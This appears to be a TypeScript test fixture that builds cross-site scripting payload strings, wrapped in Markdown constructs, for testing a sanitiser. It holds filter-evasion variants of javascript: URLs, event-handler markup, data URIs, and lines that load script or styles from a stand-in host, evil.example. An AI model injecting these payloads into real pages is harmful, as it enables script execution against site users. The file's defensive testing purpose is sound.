/**
 * Ways to bring script into a page by way of a member's text: the kinds of OWASP's "XSS Filter
 * Evasion Cheat Sheet" and of reports against Markdown libraries.
 */
const SCHEMES = [
  ...[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
  ],
  ...["javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3A;alert(1)"],
  ...["&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"],
  ...["&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)"],
  ...[" javascript:alert(1)", "\u00a0javascript:alert(1)", "\u0001javascript:alert(1)"],
  ...["%6A%61%76%61script:alert(1)", "javascript%3Aalert(1)", "javascript://%0aalert(1)"],
  ...["javascript://example.com/%0aalert(1)", "view-source:javascript:alert(1)"],
  ...["vbscript:msgbox(1)", "livescript:alert(1)", "data:text/html,<script>alert(1)</script>"],
  ...["data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg/>"],
  ...[
    "blob:https://example.com/x",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
  ],
  ...["/\\evil.example", "/community//evil.example", "/community/../api/logout", "/api/logout"],
  ...["/community/\\..\\api/logout", "https:javascript:alert(1)", "http:/\\evil", "mailto&colon;x"],
];

const MARKUP = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src=`javascript:alert(1)`>",
  '<a href="javascript:alert(1)">x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert&#40;1)</script></svg>",
  "<math><a xlink:href=javascript:alert(1)>x</a></math>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<style>@import'//evil.example/x.css';</style>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=//evil.example/>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><x onload=alert(1)>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  "</p></div></article><script>alert(1)</script>",
  "\u003cscript\u003ealert(1)\u003c/script\u003e",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\<script>alert(1)\\</script>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
];

const inMarks = (address: string) => [
  `[x](${address})`,
  `[x](<${address}>)`,
  `![x](${address})`,
  `<${address}>`,
  `[x][r]\n\n[r]: ${address}`,
  `[x](https://example.com "\\" onmouseover=alert(1) ${address}")`,
  `[![x](${address})](${address})`,
];

const aroundMarkup = (markup: string) => [
  markup,
  `**${markup}**`,
  `\`${markup}\``,
  `\`\`\`${markup}\n${markup}\n\`\`\``,
  `    ${markup}`,
  `> - 1. ${markup}`,
  `# ${markup}`,
  `[${markup}](https://example.com/${markup} "${markup}")`,
  `https://example.com/${markup}`,
  `@${markup}`,
];

export const XSS_STRINGS = [...SCHEMES.flatMap(inMarks), ...MARKUP.flatMap(aroundMarkup)];
